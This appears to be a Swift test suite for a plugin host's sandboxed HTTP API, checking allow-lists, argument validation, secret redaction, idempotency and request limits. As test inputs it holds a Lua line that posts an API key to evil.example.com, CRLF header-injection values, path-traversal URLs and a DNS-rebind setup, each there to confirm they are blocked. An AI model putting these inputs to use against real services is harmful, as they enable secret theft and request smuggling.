// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The Panelhost Authors

import Host
import PluginAPI
import Security
import Testing
import Values

@Suite("ctx.http", .timeLimit(.minutes(10)))
struct HTTPFunctionTests {
    private static let secret = "sk_live_Very+Secret/Key"
    /// Runs `ctx.http.request` with what the test gives and answers with status and body, or with the failure.
    private static let request = """
        local answer, problem = ctx.http.request(with)
        if not answer then return problem.code .. " " .. problem.outcome .. ": " .. problem.message end
        return answer.status .. " " .. answer.body
        """

    private func with(
        _ actions: [String: String] = [:], capabilities: Value = LoopbackPeer.capability, limits: Value = ["wall_ms": 5000],
        idempotency: Value = ["style": "header", "name": "Idempotency-Key"], _ body: (Rig, PluginID, LoopbackPeer) async throws -> Void
    ) async throws {
        try await LoopbackPeer.with { peer in
            try await Rig.with(peer.configuration) { rig in
                let plugin = try await rig.enable(
                    TestPlugin(
                        capabilities: capabilities, properties: ["api_key": ["type": "string", "x-secret": true]], limits: limits,
                        idempotency: idempotency, actions: actions.merging(["request": Self.request]) { own, _ in own }),
                    config: ["api_key": .string(Self.secret)])
                try await body(rig, plugin, peer)
            }
        }
    }

    @Test(
        "refuses what the manifest does not list, and names the line to add",
        arguments: [
            ("GET", "https://evil.example.com/v1/x", "evil.example.com"), ("GET", "https://api.example.com/admin", "/admin"),
            ("GET", "https://api.example.com/v10/x", "/v10/"), ("DELETE", "https://api.example.com/v1/x", "DELETE"),
            ("GET", "https://api.example.com:8443/v1/x", "8443"), ("GET", "http://api.example.com/v1/x", "api.example.com"),
            ("GET", "https://api.example.com/v1/../admin", "dot segment"),
            ("GET", "https://api.example.com@evil.example.com/v1/", "user name"),
            ("GET", "https://API.EXAMPLE.COM./v1/x", "DNS name"), ("GET", "https://api.example.com/v1/%2e%2e/admin", "%2e"),
        ])
    func allowList(method: String, url: String, named: String) async throws {
        try await with { rig, plugin, peer in
            let answer = try await rig.answer(plugin, "request", ["method": .string(method), "url": .string(url)])

            #expect(answer.hasPrefix("internal not_sent: main.lua:"), "raised at the plugin's line: \(answer)")
            #expect(answer.contains(named), "\(answer)")
            #expect(peer.seen.isEmpty)
        }
    }

    @Test("does not exist without the capability, and says which line of plugin.json to write")
    func denied() async throws {
        try await with(capabilities: [:]) { rig, plugin, _ in
            let answer = try await rig.answer(plugin, "request", ["url": LoopbackPeer.url("/echo")])

            #expect(answer.contains("plugin.json"))
            #expect(answer.contains(#""http": [{"host""#))
        }
    }

    @Test(
        "refuses malformed arguments, each by name",
        arguments: [
            (["url": 7], "url"), (["method": "get"], "method"), (["method": "CONNECT"], "method"), (["method": "OPTIONS"], "method"),
            (["urll": "x"], "urll"),
            (["form": "x"], "form"), (["form": ["a": 1.5]], "form.a"), (["headers": ["Host": "evil"]], "Host"),
            (["headers": ["content-length": "1"]], "content-length"), (["headers": ["Transfer-Encoding": "chunked"]], "Transfer-Encoding"),
            (["headers": ["Connection": "close"]], "Connection"), (["headers": ["X-A": "1\r\nX-B: 2"]], "line break"),
            (["headers": ["X-A\r\nX-B": "2"]], "header name"), (["headers": ["X A": "2"]], "header name"),
            (["headers": ["X": "é"]], "non-ASCII"),
            (["headers": ["Idempotency-Key": "mine"]], "Idempotency-Key"), (["headers": ["idempotency-KEY": "mine"]], "idempotency-KEY"),
            (["headers": ["X-A": "1", "x-a": "2"]], "twice"), (["form": [:], "json": [:]], "form and json"),
            (["timeout_ms": 0], "timeout_ms"),
            (["timeout_ms": "1"], "timeout_ms"), (["form": ["card": "4242 4242 4242 4242"]], "card number"),
            (["json": ["cvc": "1"]], "json.cvc"),
            (["body": "number=4242424242424242"], "card number"), (["headers": ["Proxy-Authorization": "x"]], "Proxy-Authorization"),
        ] as [(Value, String)])
    func malformed(options: Value, named: String) async throws {
        try await with { rig, plugin, peer in
            var request = options
            if request["url"] == nil { request["url"] = LoopbackPeer.url("/echo") }
            if request["method"] == nil { request["method"] = "POST" }

            let answer = try await rig.answer(plugin, "request", request)

            #expect(answer.hasPrefix("internal not_sent: main.lua:"), "\(answer)")
            #expect(answer.contains(named), "\(answer)")
            #expect(peer.seen.isEmpty)
        }
    }

    @Test("cannot send a body with a method that has none")
    func bodyless() async throws {
        try await with { rig, plugin, _ in
            let answer = try await rig.answer(plugin, "request", ["url": LoopbackPeer.url("/echo"), "body": "x"])

            #expect(answer.contains("cannot go with GET"))
        }
    }

    @Test("fills secrets in wherever they stand, and takes them out of whatever comes back")
    func secrets() async throws {
        let scheme = Base64.encode(Array("user:\(Self.secret)".utf8))
        let actions = [
            "bearer":
                "local r = ctx.http.post(with.url, {headers = {Authorization = ctx.http.bearer(ctx.secret.api_key)}}) return r.headers['x-echo'] .. r.body:sub(1, 150)",
            "basic":
                "local r = ctx.http.post(with.url, {headers = {Authorization = ctx.http.basic('user', ctx.secret.api_key)}}) return r.headers['x-echo']",
            "raw": "local r = ctx.http.post(with.url, {headers = {['X-Key'] = ctx.secret.api_key}}) return r.body:sub(-100)",
            "query": "local r = ctx.http.get(with.url, {query = {key = ctx.secret.api_key}}) return r.body:sub(1, 100)",
            "form":
                "local r = ctx.http.post(with.url, {form = {a = {key = ctx.secret.api_key, n = 1, list = {'x', true}}}}) return r.body:sub(-100)",
            "json": "local r = ctx.http.post(with.url, {json = {key = ctx.secret.api_key}}) return r.body:sub(-100)",
            "body": "local r = ctx.http.post(with.url, {body = ctx.secret.api_key}) return r.body:sub(-100)",
        ]
        let url: Value = ["url": LoopbackPeer.url("/echo")]
        try await with(actions) { rig, plugin, peer in
            for name in actions.keys.sorted() {
                let answer = try await rig.answer(plugin, name, url)

                #expect(answer.contains("[secret]"), "\(name): \(answer)")
                #expect(!answer.contains("Very"), "\(name): \(answer)")
                #expect(!answer.contains(scheme), "\(name): \(answer)")
            }
            let seen = Dictionary(uniqueKeysWithValues: zip(actions.keys.sorted(), peer.seen))
            #expect(seen["bearer"]?.headers["authorization"] == "Bearer \(Self.secret)")
            #expect(seen["basic"]?.headers["authorization"] == "Basic \(scheme)")
            #expect(seen["raw"]?.headers["x-key"] == Self.secret)
            #expect(seen["query"]?.uri == "/v1/echo?key=sk_live_Very%2BSecret%2FKey")
            #expect(seen["form"]?.text == "a%5Bkey%5D=sk_live_Very%2BSecret%2FKey&a%5Blist%5D%5B0%5D=x&a%5Blist%5D%5B1%5D=true&a%5Bn%5D=1")
            #expect(seen["form"]?.headers["content-type"] == "application/x-www-form-urlencoded")
            #expect(seen["json"]?.text == #"{"key":"sk_live_Very+Secret/Key"}"#)
            #expect(seen["body"]?.text == Self.secret)
        }
    }

    @Test("keeps secrets out of errors, logs and the audit trail")
    func leaks() async throws {
        let actions = [
            "log": "ctx.log.info('key is ' .. with.key, {note = with.key, api_key = 'other'}) return 'x'",
            "raise": "error('key is ' .. with.key)",
            "hold": "ctx.log.info('handle ' .. tostring(ctx.secret.api_key)) return tostring(ctx.secret.api_key)",
            "fail":
                "return {ok = false, error = {code = 'provider_error', message = 'key ' .. with.key, retryable = false, outcome = 'rejected'}}",
            "concat": "return 'x' .. ctx.secret.api_key", "store": "ctx.storage.set('k', ctx.secret.api_key) return 'x'",
            "evil": "local r = ctx.http.post('https://evil.example.com/', {body = ctx.secret.api_key}) return 'x'",
        ]
        // What a plugin could have learnt from a provider that shows it in pieces.
        let key: Value = ["key": .string(Self.secret)]
        try await with(
            actions,
            capabilities: ["storage": ["max_bytes": 1000], "http": [["host": "api.example.com", "methods": ["POST"], "path_prefix": "/"]]]
        ) { rig, plugin, peer in
            for name in actions.keys.sorted() {
                let report = try await rig.call(plugin, name, key)
                let everything = "\(report.result) \(report.log) \(report.failure?.message ?? "")"

                #expect(!everything.contains("Very"), "\(name): \(everything)")
            }
            let trail = try await rig.trail()
            #expect(!trail.contains { "\($0)".contains("Very") })
            #expect(peer.seen.isEmpty)
        }
    }

    @Test("adds the idempotency header itself, numbered by the order of mutating calls")
    func idempotency() async throws {
        let actions = [
            "three": "ctx.http.post(with.url) ctx.http.get(with.url) ctx.http.request{method = 'PUT', url = with.url} return 'x'"
        ]
        try await with(actions) { rig, plugin, peer in
            for _ in 0..<2 { _ = try await rig.answer(plugin, "three", ["url": LoopbackPeer.url("/echo")], key: "k123") }

            #expect(peer.seen.map { $0.headers["idempotency-key"] } == ["k123-1", nil, "k123-2", "k123-1", nil, "k123-2"])
        }
        try await with(actions, idempotency: ["style": "none"]) { rig, plugin, peer in
            _ = try await rig.answer(plugin, "three", ["url": LoopbackPeer.url("/echo")], key: "k123")

            #expect(peer.seen.compactMap { $0.headers["idempotency-key"] }.isEmpty)
        }
    }

    @Test(
        "answers what the network did, with what became of the request",
        arguments: [
            ("/hang", "timeout unknown"), ("/close", "provider_unavailable unknown"), ("/huge", "limit_exceeded unknown"),
            ("/redirect", "302"),
            ("/declined", "402 {\"error\""),
        ])
    func outcomes(path: String, expected: String) async throws {
        try await with { rig, plugin, peer in
            let answer = try await rig.answer(
                plugin, "request", ["method": "POST", "url": LoopbackPeer.url(path), "timeout_ms": path == "/hang" ? 300 : 5000])

            #expect(answer.hasPrefix(expected), "\(answer)")
            #expect(peer.seen.count == 1)
        }
    }

    @Test("says not_sent when nobody listens or the name is private", arguments: ["refused", "rebind"])
    func notSent(place: String) async throws {
        let port = try await LoopbackPeer.refusedPort()
        let configuration =
            place == "refused"
            ? HostConfiguration(isDevelopment: true, exemptions: [try .reroute("https://api.example.com", to: "http://127.0.0.1:\(port)")])
            : HostConfiguration(allowsUnsigned: true)
        try await Rig.with(configuration, resolver: NameResolver { _, _ in [IPAddress("127.0.0.1")].compactMap { $0 } }) { rig in
            let plugin = try await rig.enable(TestPlugin(capabilities: LoopbackPeer.capability, actions: ["request": Self.request]))

            let report = try await rig.call(plugin, "request", ["method": "POST", "url": LoopbackPeer.url("/echo")])

            let answer = try report.result.get()["provider_message_ids"]?[0]?.stringValue
            #expect(
                answer?.hasPrefix(place == "refused" ? "provider_unavailable not_sent" : "network_denied not_sent") == true,
                "\(answer ?? "")")
            #expect(!report.wire.mutatingBytesLeft)
        }
    }

    @Test("stops at the number of requests that the manifest asks for")
    func counts() async throws {
        let actions = [
            "many": """
            local sent = 0
            for i = 1, 5 do
              local r, problem = ctx.http.get(with.url)
              if not r then return sent .. " " .. problem.code end
              sent = sent + 1
            end
            return "all"
            """
        ]
        try await with(actions, limits: ["wall_ms": 5000, "http_calls": 3]) { rig, plugin, peer in
            let answer = try await rig.answer(plugin, "many", ["url": LoopbackPeer.url("/echo")])

            #expect(answer == "3 limit_exceeded")
            #expect(peer.seen.count == 3)
        }
    }

    @Test("reaches the address that the tenant configured, and nothing beside it")
    func configuredHost() async throws {
        try await LoopbackPeer.with { peer in
            try await Rig.with { rig in
                let plugin = try await rig.enable(
                    TestPlugin(
                        capabilities: ["http": [["host_config": "url", "methods": ["POST"]]]],
                        properties: ["url": ["type": "string", "format": "uri", "x-secret": true]],
                        actions: [
                            "inside": "local r = ctx.http.post(ctx.secret.url, {body = 'x'}) return r.status .. r.body:sub(1, 40)",
                            "outside": "ctx.http.post(with.url, {body = 'x'}) return 'x'",
                        ]), config: ["url": .string(peer.origin + "/hooks/T0KEN")])

                let inside = try await rig.answer(plugin, "inside")
                let outside = try await rig.answer(plugin, "outside", ["url": .string(peer.origin + "/other")])

                #expect(inside.hasPrefix("200"))
                #expect(peer.seen.map(\.uri) == ["/hooks/T0KEN"])
                #expect(outside.hasPrefix("internal not_sent"))
                #expect(!outside.contains("T0KEN"))
            }
        }
    }

    @Test("only reads while a configuration is tested")
    func readOnly() async throws {
        try await with(["validate": "ctx.http.post('https://api.example.com/v1/echo')"]) { rig, plugin, peer in
            let report = try await rig.host.plugins.test(plugin, rig.permit(.pluginConfigure), Rig.trace)

            #expect(report.failure?.message.contains("may only read") == true, "\(report.failure?.message ?? "")")
            #expect(peer.seen.isEmpty)
        }
        try await with(["validate": "ctx.http.get('https://api.example.com/v1/echo')"]) { rig, plugin, peer in
            let report = try await rig.host.plugins.test(plugin, rig.permit(.pluginConfigure), Rig.trace)

            #expect(report.failure == nil)
            #expect(peer.seen.count == 1)
        }
    }
}
